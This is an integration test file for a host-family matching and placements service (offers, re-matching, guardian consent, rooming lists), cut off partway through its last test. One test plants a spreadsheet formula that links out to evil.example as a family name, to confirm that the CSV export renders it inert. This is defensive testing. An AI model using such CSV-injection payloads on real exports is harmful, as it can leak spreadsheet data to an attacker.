import { randomUUID } from 'node:crypto';
import { INestApplication } from '@nestjs/common';
import request from 'supertest';
import { EventEnvelope, parseEnvelope, Topics, withPrefix } from '@twinning/contracts';
import { loadEnv } from '@twinning/platform-config';
import { createServiceApp } from '@twinning/platform-http';
import { eventually, kafkaBrokers, TestDatabase, TestKafka, testKeys, tokenFor, uniqueTopicPrefix } from '@twinning/testing';
import { hostMatchingApp } from '../src/app.module';
import { HostMatchingEnv } from '../src/config/host-matching-env';
import { addDays, dateOf } from '../src/families/domain/calendar';
import { OffersService } from '../src/placements/application/offers.service';

/**
 * Matching and placements in-process on the real Postgres and Kafka. The delegations service's events (delegation,
 * members, restricted matching profiles) are produced onto the real topics as that service publishes them; host
 * matching builds its read model from them, matches optimally with explanations, makes offers and handles accept,
 * decline (automatic re-match), expiry at the deadline (re-match), withdraw, guardian consent, manual overrides,
 * cancellation, the rooming list, and a host acting on another family's offer.
 */
describe('matching and placements (real Postgres, real Kafka)', () => {
  const prefix = uniqueTopicPrefix();
  const kafka = new TestKafka();
  const orgA = randomUUID();
  const orgB = randomUUID();
  const coordinatorId = randomUUID();
  const today = dateOf(new Date());
  const hosts = { ruiz: randomUUID(), nguyen: randomUUID(), olsen: randomUUID(), portland: randomUUID() };
  let db: TestDatabase;
  let app: INestApplication;
  let url: string;
  const t = {} as Record<'coordinator' | 'admin' | 'youth' | 'otherCoordinator' | keyof typeof hosts, string>;
  const fam = {} as Record<keyof typeof hosts, string>;
  const TACOMA = { latitude: 47.2529, longitude: -122.4443 };

  const as = (token: string) => ({
    get: (p: string) => request(url).get(`/api/host-matching${p}`).set('authorization', `Bearer ${token}`),
    post: (p: string, body?: object) => request(url).post(`/api/host-matching${p}`).set('authorization', `Bearer ${token}`).send(body),
    put: (p: string, body?: object) => request(url).put(`/api/host-matching${p}`).set('authorization', `Bearer ${token}`).send(body),
    patch: (p: string, body?: object) => request(url).patch(`/api/host-matching${p}`).set('authorization', `Bearer ${token}`).send(body),
  });

  const envelope = (type: string, aggregateId: string, payload: object, organisationId = orgA) => ({
    key: aggregateId,
    value: JSON.stringify({ eventId: randomUUID(), type, version: 1, occurredAt: new Date().toISOString(), organisationId, aggregateId, correlationId: randomUUID(), causationId: null, producer: 'delegations', payload }),
  });

  interface Guest { memberId: string; participantId: string; givenName: string; dateOfBirth: string; gender: string; allergies?: string[]; diet?: string[]; consent?: boolean; lodging?: string }

  /** Publishes a delegation with its members and their matching profiles, as the delegations service does. */
  async function publishDelegation(title: string, guests: Guest[], dates = { startDate: '2027-07-01', endDate: '2027-07-10' }) {
    const delegationId = randomUUID();
    await kafka.produce(withPrefix(prefix, Topics.delegationEvents), [
      envelope('delegation.created', delegationId, { delegationId, title, hostCity: 'Tacoma', ...dates, status: 'planning', createdByUserId: coordinatorId }),
      ...guests.map((g) => envelope('member.added', delegationId, { delegationId, memberId: g.memberId, participantId: g.participantId, role: g.dateOfBirth < '2000' ? 'chaperone' : 'student',
        lodgingNeed: g.lodging ?? 'homestay', isLeader: false, addedByUserId: coordinatorId })),
    ]);
    await kafka.produce(withPrefix(prefix, Topics.participantMatchingEvents), guests.map((g) => profile(g)));
    await eventually(async () => {
      const res = await as(t.coordinator).get(`/delegations/${delegationId}/guests`).expect(200);
      expect(res.body.items.filter((x: { hasMatchingProfile: boolean }) => x.hasMatchingProfile)).toHaveLength(guests.filter((g) => (g.lodging ?? 'homestay') === 'homestay').length);
    }, { timeoutMs: 30000, intervalMs: 200 });
    return delegationId;
  }

  const profile = (g: Guest, consent = g.consent ?? false) => envelope('participant.matching-profile-changed', g.participantId, {
    participantId: g.participantId, givenName: g.givenName, familyName: 'Lin', dateOfBirth: g.dateOfBirth, gender: g.gender, languages: ['zh', 'en'], nationality: 'CN',
    diet: g.diet ?? [], allergies: g.allergies ?? [], nonSmokingRequired: false, guardianConsentOnFile: consent,
  });

  const guest = (givenName: string, dateOfBirth: string, gender: string, extra: Partial<Guest> = {}): Guest => ({ memberId: randomUUID(), participantId: randomUUID(), givenName, dateOfBirth, gender, ...extra });

  async function registerFamily(name: string, hostUserId: string, extra: object) {
    const body = {
      name, address: `${name} house, Tacoma, WA`, ...TACOMA, bedrooms: 2, beds: 2, pets: [], smoking: false, languages: ['en'], diets: [], interests: [], guestGender: 'any',
      availability: [{ from: '2027-06-01', to: '2027-09-01' }], timesHosted: 0, hostUserIds: [hostUserId],
      members: [
        { name: `${name} mother`, dateOfBirth: '1978-05-01', relation: 'parent', gender: 'female' },
        { name: `${name} father`, dateOfBirth: '1977-02-01', relation: 'parent', gender: 'male' },
      ],
      ...extra,
    };
    return (await as(t.coordinator).post('/families', body).expect(201)).body as { id: string; members: { id: string }[] };
  }

  async function vet(f: { id: string; members: { id: string }[] }) {
    for (const m of f.members) await as(t.youth).post(`/families/${f.id}/background-checks`, { memberId: m.id, result: 'clear', checkedOn: addDays(today, -10), expiresOn: addDays(today, 700) }).expect(201);
    await as(t.coordinator).post(`/families/${f.id}/home-visits`, { visitedBy: 'Mei Lin', visitedOn: addDays(today, -5), present: ['mother', 'father'], notes: 'ready' }).expect(201);
  }

  /** The placement events of one delegation, once the topic holds exactly what the outbox holds for it. */
  async function eventsOf(delegationId: string): Promise<EventEnvelope[]> {
    return eventually(async () => {
      const msgs = (await kafka.readAll(withPrefix(prefix, Topics.placementEvents))).filter((m) => m.key === delegationId);
      const [{ n }] = await db.query<{ n: string }>(`SELECT count(*) AS n FROM outbox WHERE message_key = $1 AND topic = $2`, [delegationId, withPrefix(prefix, Topics.placementEvents)]);
      expect(msgs.length).toBe(Number(n));
      return msgs.map((m) => parseEnvelope(m.value));
    }, { timeoutMs: 30000, intervalMs: 250 });
  }

  const offerOf = async (delegationId: string, memberId: string) => {
    const g = (await as(t.coordinator).get(`/delegations/${delegationId}/guests`).expect(200)).body.items.find((x: { memberId: string }) => x.memberId === memberId);
    return g.offer as { id: string; status: string; familyId: string; origin: string } | null;
  };

  beforeAll(async () => {
    db = await TestDatabase.create('host_matching_placements');
    for (const topic of [Topics.delegationEvents, Topics.participantMatchingEvents]) await kafka.createTopic(withPrefix(prefix, topic), 3);
    const env = loadEnv(HostMatchingEnv, { ...testKeys(), PORT: '0', DATABASE_URL: db.url, KAFKA_BROKERS: kafkaBrokers().join(','), KAFKA_TOPIC_PREFIX: prefix, LOG_LEVEL: 'warn',
      VETTING_JOB_INTERVAL_MS: '0', OFFER_EXPIRY_JOB_INTERVAL_MS: '0' });
    app = await createServiceApp(hostMatchingApp(env));
    url = (await app.getUrl()).replace('[::1]', '127.0.0.1');
    t.coordinator = await tokenFor({ organisationId: orgA, roles: ['coordinator'], userId: coordinatorId });
    t.admin = await tokenFor({ organisationId: orgA, roles: ['admin'] });
    t.youth = await tokenFor({ organisationId: orgA, roles: ['youth-manager'] });
    t.otherCoordinator = await tokenFor({ organisationId: orgB, roles: ['coordinator'] });
    for (const k of Object.keys(hosts) as (keyof typeof hosts)[]) t[k] = await tokenFor({ organisationId: orgA, roles: ['host'], userId: hosts[k] });
    // Ruiz: a cat, vetted. Nguyen: a dog, vetted. Olsen: one bed, not vetted (adults only), speaks Chinese too, so the
    // adult Li's unique best family (the minors' only families are Ruiz and Nguyen, tied: either way one bed stays free
    // for each re-match below, so no open offer ever has to move and the test does not depend on the families' ids).
    // Portland: no pets, vetted, 200 km away.
    const ruiz = await registerFamily('Ruiz', hosts.ruiz, { pets: ['cat'] });
    const nguyen = await registerFamily('Nguyen', hosts.nguyen, { pets: ['dog'] });
    const olsen = await registerFamily('Olsen', hosts.olsen, { beds: 1, languages: ['en', 'zh'] });
    const portland = await registerFamily('Portland', hosts.portland, { latitude: 45.5152, longitude: -122.6784 });
    for (const f of [ruiz, nguyen, portland]) await vet(f);
    Object.assign(fam, { ruiz: ruiz.id, nguyen: nguyen.id, olsen: olsen.id, portland: portland.id });
  });

  afterAll(async () => {
    await app?.close();
    await kafka.close();
    await db?.drop();
  });

  describe('a delegation from Fuzhou: run, offers, answers and re-matches', () => {
    const li = guest('Li', '1985-03-03', 'female');
    const mei = guest('Mei', '2011-05-05', 'female', { consent: true, diet: ['vegetarian'], allergies: ['peanuts'] });
    const wei = guest('Wei', '2012-02-02', 'male');
    const zhou = guest('Zhou', '2011-09-09', 'female', { allergies: ['cats', 'dogs'], consent: true });
    const hotel = guest('Guo', '1970-01-01', 'male', { lodging: 'hotel' });
    let d: string;
    const offers = {} as Record<'li' | 'mei' | 'wei', { id: string; familyId: string }>;

    beforeAll(async () => {
      d = await publishDelegation('Fuzhou youth delegation', [li, mei, wei, zhou, hotel]);
    });

    it('refuses to run without a venue, naming the field; settings are validated and another organisation gets 404', async () => {
      const res = await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(400);
      expect(res.body.fields).toEqual([expect.objectContaining({ field: 'venue' })]);
      const bad = await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: { latitude: 123, longitude: 0 }, offerResponseHours: 0 }).expect(400);
      expect(bad.body.fields.map((f: { field: string }) => f.field).sort()).toEqual(['offerResponseHours', 'venue.latitude']);
      await as(t.otherCoordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA }).expect(404);
      await as(t.ruiz).get(`/delegations/${d}/guests`).expect(403);
      const s = (await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA, venueName: 'Tacoma Dome' }).expect(200)).body;
      expect(s).toMatchObject({ venue: { lat: TACOMA.latitude, lng: TACOMA.longitude }, maxDistanceKm: 25, offerResponseHours: 72, minorsGenderRule: 'same-gender-host-parent-present' });
    });

    it('proposes an optimal placement with the score breakdown and rule counts, and explains the guest left unplaced', async () => {
      const run = (await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(201)).body;
      expect(run).toMatchObject({ trigger: 'coordinator', guests: 4, placed: 3, unplaced: 1, optimal: true, familiesConsidered: 4 });
      const byMember = Object.fromEntries(run.proposals.map((p: { memberId: string }) => [p.memberId, p]));
      expect(byMember[li.memberId].familyId).toBe(fam.olsen);
      expect([fam.ruiz, fam.nguyen]).toContain(byMember[mei.memberId].familyId);
      expect([fam.ruiz, fam.nguyen]).toContain(byMember[wei.memberId].familyId);
      expect(byMember[li.memberId].breakdown).toEqual(expect.objectContaining({ languages: expect.any(Number), distance: expect.any(Number) }));
      expect(byMember[mei.memberId].excludedByRule).toMatchObject({ MINOR_NOT_ELIGIBLE: 1, DISTANCE: 1 });
      const [z] = run.unplacedGuests;
      expect(z.memberId).toBe(zhou.memberId);
      expect(z.explanation).toMatchObject({ kind: 'no-feasible-family', decidingRule: 'DISTANCE' });
      expect(z.explanation.message).toMatch(/within 25 km/);
      expect(z.excludedByRule).toMatchObject({ MINOR_NOT_ELIGIBLE: 1, PETS_VS_ALLERGY: 2, DISTANCE: 1 });
      const events = await eventsOf(d);
      expect(events.map((e) => e.type)).toEqual(['guest.unplaced', 'matching-run.completed']);
      expect(events[0].payload).toMatchObject({ memberId: zhou.memberId, rule: 'DISTANCE' });
      expect(events[1].payload).toMatchObject({ guests: 4, placed: 3, unplaced: 1, optimal: true, trigger: 'coordinator' });
    });

    it('answers "why not family X" with the excluding rule or the score lost', async () => {
      const pets = (await as(t.youth).get(`/delegations/${d}/why-not?memberId=${zhou.memberId}&familyId=${fam.ruiz}`).expect(200)).body;
      expect(pets).toMatchObject({ feasible: false, rule: 'PETS_VS_ALLERGY' });
      const vetting = (await as(t.coordinator).get(`/delegations/${d}/why-not?memberId=${mei.memberId}&familyId=${fam.olsen}`).expect(200)).body;
      expect(vetting).toMatchObject({ feasible: false, rule: 'MINOR_NOT_ELIGIBLE' });
      const ok = (await as(t.coordinator).get(`/delegations/${d}/why-not?memberId=${li.memberId}&familyId=${fam.ruiz}`).expect(200)).body;
      expect(ok).toMatchObject({ feasible: true, scoreLost: expect.any(Number) });
      expect((await as(t.coordinator).get(`/delegations/${d}/why-not?memberId=nope&familyId=${fam.ruiz}`).expect(400)).body.fields[0].field).toBe('memberId');
    });

    it('releases the proposals as offers with a 72-hour deadline; each host sees only their own offer', async () => {
      const rel = (await as(t.coordinator).post(`/delegations/${d}/offers`, {}).expect(201)).body;
      expect(rel.offerIds).toHaveLength(3);
      for (const [k, g] of [['li', li], ['mei', mei], ['wei', wei]] as const) offers[k] = (await offerOf(d, g.memberId))!;
      const meiHost = (Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === offers.mei.familyId)!;
      const mine = (await as(t[meiHost]).get('/offers').expect(200)).body;
      expect(mine.items.map((o: { id: string }) => o.id)).toContain(offers.mei.id);
      expect(mine.items.every((o: { familyId: string }) => o.familyId === fam[meiHost])).toBe(true);
      const seen = (await as(t[meiHost]).get(`/offers/${offers.mei.id}`).expect(200)).body;
      expect(seen).toMatchObject({ status: 'offered', origin: 'matching', guest: { givenName: 'Mei', minor: true, allergies: ['peanut'], allergyNote: '', diet: ['vegetarian'] } });
      // delegation.created v1 names no time zone: none known yet
      expect(seen.delegation).toEqual({ title: 'Fuzhou youth delegation', hostCity: 'Tacoma', hostTimeZone: null, from: '2027-07-01', to: '2027-07-10' });
      const hours = (new Date(seen.deadlineAt).getTime() - new Date(seen.createdAt).getTime()) / 3600_000;
      expect(hours).toBeCloseTo(72, 5);
      expect(seen.timeLeftSeconds).toBeGreaterThan(71 * 3600);
      // another family's host: 404 on read and on every answer; another organisation: 404
      const stranger = meiHost === 'ruiz' ? t.olsen : t.ruiz;
      await as(stranger).get(`/offers/${offers.mei.id}`).expect(404);
      await as(stranger).post(`/offers/${offers.mei.id}/accept`).expect(404);
      await as(stranger).post(`/offers/${offers.mei.id}/decline`, { reason: 'not mine' }).expect(404);
      await as(t.otherCoordinator).get(`/offers/${offers.mei.id}`).expect(404);
      await as(t.youth).post(`/offers/${offers.mei.id}/accept`).expect(403);
      const made = (await eventsOf(d)).filter((e) => e.type === 'offer.made');
      expect(made).toHaveLength(3);
      expect(made.map((e) => (e.payload as { offerId: string }).offerId).sort()).toEqual(rel.offerIds.sort());
    });

    it('the host city’s time zone from delegation.updated: every offer answer names it, so the deadline shows on the host city’s clock', async () => {
      await kafka.produce(withPrefix(prefix, Topics.delegationEvents), [envelope('delegation.updated', d, {
        delegationId: d, changed: ['hostTimeZone'], title: 'Fuzhou youth delegation', hostCity: 'Tacoma', hostTimeZone: 'America/Los_Angeles', startDate: '2027-07-01', endDate: '2027-07-10',
        direction: 'inbound', programmeArea: null, partnershipId: null, minorsPerAdult: 8, status: 'planning', version: 2, updatedByUserId: coordinatorId,
      })]);
      const meiHost = (Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === offers.mei.familyId)!;
      await eventually(async () => expect((await as(t[meiHost]).get(`/offers/${offers.mei.id}`).expect(200)).body.delegation).toEqual({
        title: 'Fuzhou youth delegation', hostCity: 'Tacoma', hostTimeZone: 'America/Los_Angeles', from: '2027-07-01', to: '2027-07-10',
      }), { timeoutMs: 30000, intervalMs: 200 });
      const list = (await as(t.coordinator).get(`/offers?delegationId=${d}`).expect(200)).body;
      expect(list.items.length).toBeGreaterThan(0);
      expect(list.items.every((o: { delegation: { hostTimeZone: string } }) => o.delegation.hostTimeZone === 'America/Los_Angeles')).toBe(true);
      // about to expire: open offers whose deadline is before an instant (the dashboard asks for the next 24 hours)
      const inHours = (h: number) => new Date(Date.now() + h * 3_600_000).toISOString();
      const open = (await as(t.coordinator).get(`/offers?delegationId=${d}&status=offered`).expect(200)).body.total as number;
      expect(open).toBeGreaterThan(0);
      expect((await as(t.coordinator).get(`/offers?delegationId=${d}&status=offered&deadlineBefore=${inHours(24)}`).expect(200)).body.total).toBe(0);
      expect((await as(t.coordinator).get(`/offers?delegationId=${d}&status=offered&deadlineBefore=${inHours(73)}`).expect(200)).body.total).toBe(open);
      const bad = await as(t.coordinator).get(`/offers?delegationId=${d}&deadlineBefore=tomorrow`).expect(400);
      expect(bad.body.fields[0].field).toBe('deadlineBefore');
    });

    it('a declined offer is re-matched automatically: the pair is forbidden, the other open offers stay', async () => {
      const meiHost = (Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === offers.mei.familyId)!;
      expect((await as(t[meiHost]).post(`/offers/${offers.mei.id}/decline`, {}).expect(400)).body.fields[0].field).toBe('reason');
      const res = (await as(t[meiHost]).post(`/offers/${offers.mei.id}/decline`, { reason: 'grandmother visiting that week' }).expect(200)).body;
      expect(res).toMatchObject({ status: 'declined', responseReason: 'grandmother visiting that week', rematch: { placed: 3, moved: 0 }, delegation: { hostTimeZone: 'America/Los_Angeles' } });
      const next = (await offerOf(d, mei.memberId))!;
      expect(next).toMatchObject({ status: 'offered', origin: 'rematch' });
      expect(next.familyId).not.toBe(offers.mei.familyId);
      expect(await offerOf(d, wei.memberId)).toMatchObject({ id: offers.wei.id, status: 'offered' });
      expect(await offerOf(d, li.memberId)).toMatchObject({ id: offers.li.id, status: 'offered' });
      await as(t[meiHost]).post(`/offers/${offers.mei.id}/accept`).expect(409);
      const types = (await eventsOf(d)).map((e) => e.type);
      expect(types.slice(-3)).toEqual(['offer.declined', 'offer.made', 'matching-run.completed']);
      offers.mei = next;
    });

    it('an unanswered offer becomes expired at its deadline (read as expired at once, ended by the job) and is re-matched', async () => {
      await db.query(`UPDATE offer SET deadline_at = now() - interval '1 second' WHERE id = $1`, [offers.wei.id]);
      expect((await as(t.coordinator).get(`/offers/${offers.wei.id}`).expect(200)).body).toMatchObject({ status: 'expired', timeLeftSeconds: 0 });
      const weiHost = (Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === offers.wei.familyId)!;
      expect((await as(t[weiHost]).post(`/offers/${offers.wei.id}/accept`).expect(409)).body.code).toBe('OFFER.EXPIRED');
      expect(await app.get(OffersService).expireDue(new Date())).toBe(1);
      expect(await app.get(OffersService).expireDue(new Date())).toBe(0);
      const [{ status }] = await db.query<{ status: string }>(`SELECT status FROM offer WHERE id = $1`, [offers.wei.id]);
      expect(status).toBe('expired');
      const next = (await offerOf(d, wei.memberId))!;
      expect(next).toMatchObject({ status: 'offered', origin: 'rematch' });
      expect(next.familyId).not.toBe(offers.wei.familyId);
      const events = await eventsOf(d);
      expect(events.filter((e) => e.type === 'offer.expired').map((e) => (e.payload as { offerId: string }).offerId)).toEqual([offers.wei.id]);
      offers.wei = next;
    });

    it('accepting confirms an adult at once, a minor only once guardian consent is on file', async () => {
      const hostOf = (o: { familyId: string }) => t[(Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === o.familyId)!];
      expect((await as(hostOf(offers.li)).post(`/offers/${offers.li.id}/accept`).expect(200)).body).toMatchObject({ status: 'confirmed', awaitingGuardianConsent: false, delegation: { hostTimeZone: 'America/Los_Angeles' } });
      expect((await as(hostOf(offers.mei)).post(`/offers/${offers.mei.id}/accept`).expect(200)).body).toMatchObject({ status: 'confirmed' });
      expect((await as(hostOf(offers.wei)).post(`/offers/${offers.wei.id}/accept`).expect(200)).body).toMatchObject({ status: 'accepted', awaitingGuardianConsent: true });
      await as(hostOf(offers.wei)).post(`/offers/${offers.wei.id}/accept`).expect(409);
      let events = await eventsOf(d);
      expect(events.filter((e) => e.type === 'placement.confirmed').map((e) => (e.payload as { memberId: string }).memberId).sort()).toEqual([li.memberId, mei.memberId].sort());
      expect(events.find((e) => e.type === 'offer.accepted' && (e.payload as { offerId: string }).offerId === offers.wei.id)?.payload).toMatchObject({ awaitingGuardianConsent: true });
      // the guardian's consent arrives from delegations: the placement is confirmed
      await kafka.produce(withPrefix(prefix, Topics.participantMatchingEvents), [profile(wei, true)]);
      await eventually(async () => expect((await as(t.coordinator).get(`/offers/${offers.wei.id}`).expect(200)).body.status).toBe('confirmed'), { timeoutMs: 30000, intervalMs: 200 });
      events = await eventsOf(d);
      const confirmed = events.find((e) => e.type === 'placement.confirmed' && (e.payload as { memberId: string }).memberId === wei.memberId);
      expect(confirmed?.payload).toMatchObject({ familyId: offers.wei.familyId, stayFrom: '2027-07-01', stayTo: '2027-07-10', address: expect.stringContaining('Tacoma') });
      // the hosts' briefing (diet, allergies) goes only to the restricted topic, never on the placement topic every service reads
      expect(JSON.stringify(events.filter((e) => e.type === 'placement.confirmed'))).not.toMatch(/peanut/i);
      const briefings = await eventually(async () => {
        const msgs = (await kafka.readAll(withPrefix(prefix, Topics.hostBriefingEvents))).filter((m) => m.key === d).map((m) => parseEnvelope(m.value));
        expect(msgs).toHaveLength(3);
        return msgs;
      }, { timeoutMs: 30000, intervalMs: 250 });
      expect(briefings.find((e) => (e.payload as { memberId: string }).memberId === mei.memberId)?.payload).toMatchObject({
        familyId: offers.mei.familyId, guestGivenName: 'Mei', diet: ['Vegetarian'], allergies: ['Peanuts'], dietCodes: ['vegetarian'], allergyCodes: ['peanut'], nonSmokingRequired: false });
    });

    it('a manual assignment is told every rule it breaks, refused for safeguarding rules, and recorded when overridden', async () => {
      const refused = (await as(t.coordinator).post(`/delegations/${d}/assignments`, { memberId: zhou.memberId, familyId: fam.olsen }).expect(409)).body;
      expect(refused.code).toBe('ASSIGNMENT.NOT_OVERRIDABLE');
      expect(refused.details.brokenRules.map((r: { rule: string }) => r.rule)).toContain('MINOR_NOT_ELIGIBLE');
      const warned = (await as(t.coordinator).post(`/delegations/${d}/assignments`, { memberId: zhou.memberId, familyId: fam.portland }).expect(409)).body;
      expect(warned.code).toBe('ASSIGNMENT.BREAKS_RULES');
      expect(warned.details.brokenRules.map((r: { rule: string }) => r.rule)).toEqual(['DISTANCE']);
      expect((await as(t.coordinator).post(`/delegations/${d}/assignments`, { memberId: zhou.memberId, familyId: fam.portland, acknowledgeBrokenRules: true }).expect(400)).body.fields[0].field).toBe('note');
      const ok = (await as(t.coordinator).post(`/delegations/${d}/assignments`, { memberId: zhou.memberId, familyId: fam.portland, acknowledgeBrokenRules: true, note: 'aunt lives in Portland; daily train' }).expect(201)).body;
      expect(ok).toMatchObject({ overridden: true, brokenRules: [expect.objectContaining({ rule: 'DISTANCE' })] });
      const o = (await as(t.coordinator).get(`/offers/${ok.offerId}`).expect(200)).body;
      expect(o).toMatchObject({ origin: 'manual', overrideNote: 'aunt lives in Portland; daily train', brokenRules: [expect.objectContaining({ rule: 'DISTANCE' })] });
      const made = (await eventsOf(d)).filter((e) => e.type === 'offer.made').pop()!;
      expect(made.payload).toMatchObject({ offerId: ok.offerId, origin: 'manual', brokenRules: ['DISTANCE'] });
    });

    it('a host withdraws an acceptance with a reason: the placement is released and the guest re-matched', async () => {
      const liHost = (Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === offers.li.familyId)!;
      expect((await as(t[liHost]).post(`/offers/${offers.li.id}/withdraw`, { reason: '' }).expect(400)).body.fields[0].field).toBe('reason');
      const res = (await as(t[liHost]).post(`/offers/${offers.li.id}/withdraw`, { reason: 'family emergency' }).expect(200)).body;
      expect(res).toMatchObject({ status: 'withdrawn', endReason: 'family emergency', delegation: { hostTimeZone: 'America/Los_Angeles' } });
      const next = await offerOf(d, li.memberId);
      expect(next).toMatchObject({ status: 'offered', origin: 'rematch' });
      expect(next!.familyId).not.toBe(offers.li.familyId);
      const events = await eventsOf(d);
      expect(events.find((e) => e.type === 'offer.withdrawn' && (e.payload as { offerId: string }).offerId === offers.li.id)?.payload).toMatchObject({ kind: 'host-withdrew', reason: 'family emergency' });
      expect(events.find((e) => e.type === 'placement.released' && (e.payload as { offerId: string }).offerId === offers.li.id)?.payload).toMatchObject({ reason: 'host-withdrew' });
    });

    it('prints the rooming list as CSV and as HTML', async () => {
      const csv = await as(t.youth).get(`/delegations/${d}/rooming-list?format=csv`).expect(200);
      expect(csv.headers['content-type']).toMatch(/text\/csv/);
      const lines = csv.text.trim().split('\n');
      expect(lines[0]).toBe('family,address,guest,gender,age_on_arrival,role,arrival,departure,status');
      expect(lines).toHaveLength(5);
      expect(csv.text).toMatch(/Portland,.*Zhou Lin,female,15,student,2027-07-01,2027-07-10,offered/);
      expect(csv.text).toMatch(/Wei Lin,male,15,student,2027-07-01,2027-07-10,confirmed/);
      const html = await as(t.coordinator).get(`/delegations/${d}/rooming-list`).set('accept', 'text/html').expect(200);
      expect(html.headers['content-type']).toMatch(/text\/html/);
      expect(html.text).toContain('<h1>Rooming list: Fuzhou youth delegation</h1>');
      await as(t.otherCoordinator).get(`/delegations/${d}/rooming-list`).expect(404);
      await as(t.ruiz).get(`/delegations/${d}/rooming-list`).expect(403);
    });

    it('a host who renames their family to a spreadsheet formula gets it printed inert in the rooming list CSV', async () => {
      const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
      await request(url).patch(`/api/host-matching/families/${fam.portland}`).set('authorization', `Bearer ${t.portland}`).send({ name: formula }).expect(200);
      try {
        const csv = (await as(t.coordinator).get(`/delegations/${d}/rooming-list?format=csv`).expect(200)).text;
        const row = csv.split('\n').find((l) => l.includes('Zhou Lin'))!;
        expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")",`)).toBe(true);
        expect(csv.split('\n').some((l) => /^"?[=+\-@]/.test(l))).toBe(false);
      } finally {
        await request(url).patch(`/api/host-matching/families/${fam.portland}`).set('authorization', `Bearer ${t.portland}`).send({ name: 'Portland' }).expect(200);
      }
    });

    it('a cancelled delegation releases every placement and open offer', async () => {
      const before = await db.query<{ id: string; status: string }>(`SELECT id, status FROM offer WHERE delegation_id = $1 AND status IN ('offered', 'accepted', 'confirmed')`, [d]);
      expect(before.length).toBe(4);
      await kafka.produce(withPrefix(prefix, Topics.delegationEvents), [envelope('delegation.status-changed', d, { delegationId: d, from: 'planning', to: 'cancelled', version: 3, changedByUserId: coordinatorId })]);
      await eventually(async () => {
        const rows = await db.query<{ status: string }>(`SELECT status FROM offer WHERE id = ANY ($1)`, [before.map((r) => r.id)]);
        expect(rows.every((r) => r.status === 'released')).toBe(true);
      }, { timeoutMs: 30000, intervalMs: 200 });
      const events = await eventsOf(d);
      const confirmed = before.filter((r) => r.status === 'confirmed').map((r) => r.id).sort();
      const open = before.filter((r) => r.status === 'offered').map((r) => r.id).sort();
      expect(events.filter((e) => e.type === 'placement.released' && (e.payload as { reason: string }).reason === 'delegation-cancelled').map((e) => (e.payload as { offerId: string }).offerId).sort()).toEqual(confirmed);
      expect(events.filter((e) => e.type === 'offer.withdrawn' && (e.payload as { kind: string }).kind === 'coordinator').map((e) => (e.payload as { offerId: string }).offerId).sort()).toEqual(expect.arrayContaining(open));
      await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(409);
    });
  });

  describe('groups and the race between an accept and the deadline', () => {
    it('keeps siblings together in one family', async () => {
      const sisters = [guest('Ana', '2012-01-01', 'female', { consent: true }), guest('Bea', '2013-01-01', 'female', { consent: true })];
      const d = await publishDelegation('Sisters', sisters, { startDate: '2027-08-01', endDate: '2027-08-05' });
      await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA, groups: [{ kind: 'together', memberIds: sisters.map((s) => s.memberId) }] }).expect(200);
      const bad = await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { groups: [{ kind: 'together', memberIds: [sisters[0].memberId, randomUUID()] }] }).expect(400);
      expect(bad.body.fields[0].field).toBe('groups.0.memberIds');
      const both = [{ kind: 'together', memberIds: sisters.map((s) => s.memberId) }, { kind: 'apart', memberIds: sisters.map((s) => s.memberId) }];
      const conflict = await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { groups: both }).expect(400);
      expect([conflict.body.code, conflict.body.fields[0].field]).toEqual(['MATCHING.GROUP_CONFLICT', 'groups.1.memberIds']);
      const run = (await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(201)).body;
      expect(run.placed).toBe(2);
      expect(new Set(run.proposals.map((p: { familyId: string }) => p.familyId)).size).toBe(1);
    });

    it('concurrent accept and expiry: exactly one wins for every offer, and the events agree', async () => {
      const adults = Array.from({ length: 6 }, (_, i) => guest(`Adult${i}`, '1980-01-01', i % 2 ? 'male' : 'female'));
      const d = await publishDelegation('Race', adults, { startDate: '2027-08-10', endDate: '2027-08-14' });
      await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA }).expect(200);
      await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(201);
      const { offerIds } = (await as(t.coordinator).post(`/delegations/${d}/offers`, {}).expect(201)).body as { offerIds: string[] };
      expect(offerIds.length).toBeGreaterThanOrEqual(4);
      const deadline = new Date(Date.now() + 400);
      await db.query(`UPDATE offer SET deadline_at = $2 WHERE id = ANY ($1)`, [offerIds, deadline]);
      await new Promise((r) => setTimeout(r, Math.max(0, deadline.getTime() - Date.now() - 30)));
      const answers = await Promise.all([
        ...offerIds.map((id) => as(t.coordinator).post(`/offers/${id}/accept`).then((r) => ({ id, code: r.status }))),
        app.get(OffersService).expireDue(new Date(deadline.getTime() + 1)).then(() => null),
        new Promise((r) => setTimeout(r, 60)).then(() => app.get(OffersService).expireDue(new Date())).then(() => null),
      ]);
      const rows = await db.query<{ id: string; status: string }>(`SELECT id, status FROM offer WHERE id = ANY ($1)`, [offerIds]);
      const events = await eventsOf(d);
      for (const id of offerIds) {
        const a = answers.find((x) => x?.id === id)!;
        const status = rows.find((r) => r.id === id)!.status;
        const accepted = events.filter((e) => e.type === 'offer.accepted' && (e.payload as { offerId: string }).offerId === id).length;
        const expired = events.filter((e) => e.type === 'offer.expired' && (e.payload as { offerId: string }).offerId === id).length;
        if (a.code === 200) {
          expect(status).toBe('confirmed');
          expect([accepted, expired]).toEqual([1, 0]);
        } else {
          expect(a.code).toBe(409);
          expect(status).toBe('expired');
          expect([accepted, expired]).toEqual([0, 1]);
        }
      }
    });
  });

  describe('a delegation shared with the partner organisation of the host city', () => {
    it('the partner places the guests with its own families; the owner follows the offers; unshared is 404 again', async () => {
